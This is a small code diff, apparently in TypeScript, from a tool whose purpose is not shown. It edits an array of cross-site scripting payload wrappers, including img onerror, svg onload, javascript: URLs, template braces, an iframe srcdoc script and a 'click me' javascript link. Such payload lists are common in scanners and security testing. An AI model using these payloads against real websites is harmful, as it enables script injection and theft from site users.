@@ -7,7 +7,7 @@ const wraps = [
   (code: string) => `<img src=x onerror=${code}>`,
   (code: string) => `"><svg onload=${code}>`,
   (code: string) => `javascript:${code}`,
-  (code: string) => `'-${code}-'`,
+  (code: string) => `x'-${code}-'`,
   (code: string) => `{{${code}}}`,
   (code: string) => `<iframe srcdoc="<script>parent.${code}</script>">`,
   (code: string) => `<a href="javascript:${code}">点我</a>`,
